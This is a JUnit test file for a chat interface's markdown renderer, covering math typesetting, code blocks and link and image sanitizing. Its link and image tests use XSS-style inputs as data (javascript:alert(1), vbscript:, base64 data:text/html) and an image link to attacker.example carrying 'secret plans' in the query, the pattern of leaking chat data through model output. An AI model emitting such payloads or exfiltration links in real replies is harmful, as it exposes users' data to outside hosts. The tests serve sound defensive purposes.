package dev.streamchat.ui.markdown;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Math survives markdown as spans for the browser to typeset; prices, code and escapes
 * stay text. Model output cannot make the browser send anything anywhere by itself, nor
 * link to other schemes.
 */
class MarkdownRendererTest {

	final MarkdownRenderer markdown = new MarkdownRenderer();

	@Test
	void inlineAndDisplayMathBecomeSpansWithTheirTexUntouchedByMarkdown() {
		String html = markdown.toHtml("Euler: $e^{i\\pi} + 1 = 0$ and $a_1 * b_2 * c_3$, also \\(x_i\\).\n\n"
				+ "$$\\sum_{k=1}^n k = \\frac{n(n+1)}{2}$$\n\n\\[a \\\\ b\\]");

		assertThat(html).contains("<span class=\"math\" data-delim=\"1\">$e^{i\\pi} + 1 = 0$</span>")
			.contains("<span class=\"math\" data-delim=\"1\">$a_1 * b_2 * c_3$</span>")
			.contains("<span class=\"math\" data-delim=\"2\">\\(x_i\\)</span>")
			.contains(
					"<span class=\"math\" data-delim=\"2\" data-display>$$\\sum_{k=1}^n k = \\frac{n(n+1)}{2}$$</span>")
			.contains("<span class=\"math\" data-delim=\"2\" data-display>\\[a \\\\ b\\]</span>")
			.doesNotContain("<em>");
	}

	@Test
	void pricesAreNotMath() {
		assertThat(markdown.toHtml("It costs $5 and $10, or $5,$10 in total; $ 3 $ too."))
			.doesNotContain("class=\"math\"")
			.contains("$5 and $10, or $5,$10");
	}

	@Test
	void codeAndEscapedDollarsAreNotMath() {
		String html = markdown.toHtml("Use `$x$` or \\$y\\$.\n\n```sh\necho \"$HOME $PATH\"\n```\n");

		assertThat(html).doesNotContain("class=\"math\"")
			.contains("<code>$x$</code>")
			.contains("$y$")
			.contains("echo &quot;$HOME $PATH&quot;");
	}

	@Test
	void mathSourceIsEscapedAsText() {
		assertThat(markdown.toHtml("$a<b>\"c\"$")).contains(">$a&lt;b&gt;&quot;c&quot;$</span>").doesNotContain("<b>");
	}

	@Test
	void aSettledCodeBlockGetsAHeadWithItsLanguageAndCopy() {
		assertThat(markdown.toBlockHtml("```java\nint x = 1;\n```\n"))
			.isEqualTo("<div class=\"code-block\"><div class=\"code-head\"><span class=\"code-lang\">java</span>"
					+ "<button class=\"copy-code\" type=\"button\" aria-label=\"Copy code\">Copy</button></div>"
					+ "<pre tabindex=\"0\"><code class=\"language-java\">int x = 1;\n</code></pre></div>\n");
		assertThat(markdown.toBlockHtml("```\nplain\n```\n")).contains("<span class=\"code-lang\"></span>");
		assertThat(markdown.toHtml("```java\nint x = 1;\n```\n")).doesNotContain("code-head");
	}

	@Test
	void onlyHttpHttpsAndMailtoStayLinks() {
		String html = markdown.toHtml("""
				[web](https://example.com/a) [plain](http://example.com) [mail](mailto:a@example.com)
				[data](data:text/html;base64,PHNjcmlwdD4=) [js](javascript:alert(1)) [rel](/actuator/metrics)
				[odd](HTTPS:example.com) [vb](vbscript:x) <data:text/html,hi>
				""");

		assertThat(html).contains("href=\"https://example.com/a\"", "href=\"http://example.com\"",
				"href=\"mailto:a@example.com\"");
		assertThat(html).doesNotContain("data:text/html;base64", "href=\"javascript", "href=\"/actuator",
				"href=\"HTTPS:example", "href=\"vbscript", "href=\"data:");
		assertThat(html).contains("data", "js", "rel", "odd").doesNotContain("href=\"\"");
	}

	@Test
	void imagesAreLinksTheUserMayClickNeverLoadedByThemselves() {
		String html = markdown.toHtml("Look: ![your chats](https://attacker.example/?q=secret%20plans) and "
				+ "![](data:image/png;base64,AAAA) ![x](/logo.png)");

		assertThat(html).doesNotContain("<img");
		assertThat(html).contains("href=\"https://attacker.example/?q=secret%20plans\"")
			.contains("image: your chats</a>")
			.doesNotContain("data:image", "/logo.png");
	}

	@Test
	void autolinkedUrlsFollowTheSameRule() {
		// a bare URL of any scheme with "://" is autolinked; the renderer's own sanitizer
		// lets data: through and leaves other schemes as empty links
		String html = markdown
			.toHtml("see https://example.com, www.example.org, data://text/html,hi and " + "javascript://%0aalert(1)");

		assertThat(html).contains("href=\"https://example.com\"", "href=\"http://www.example.org\"");
		assertThat(html).doesNotContain("href=\"data:", "href=\"javascript:", "href=\"\"")
			.contains("data://text/html,hi", "javascript://%0aalert(1)");
	}

}
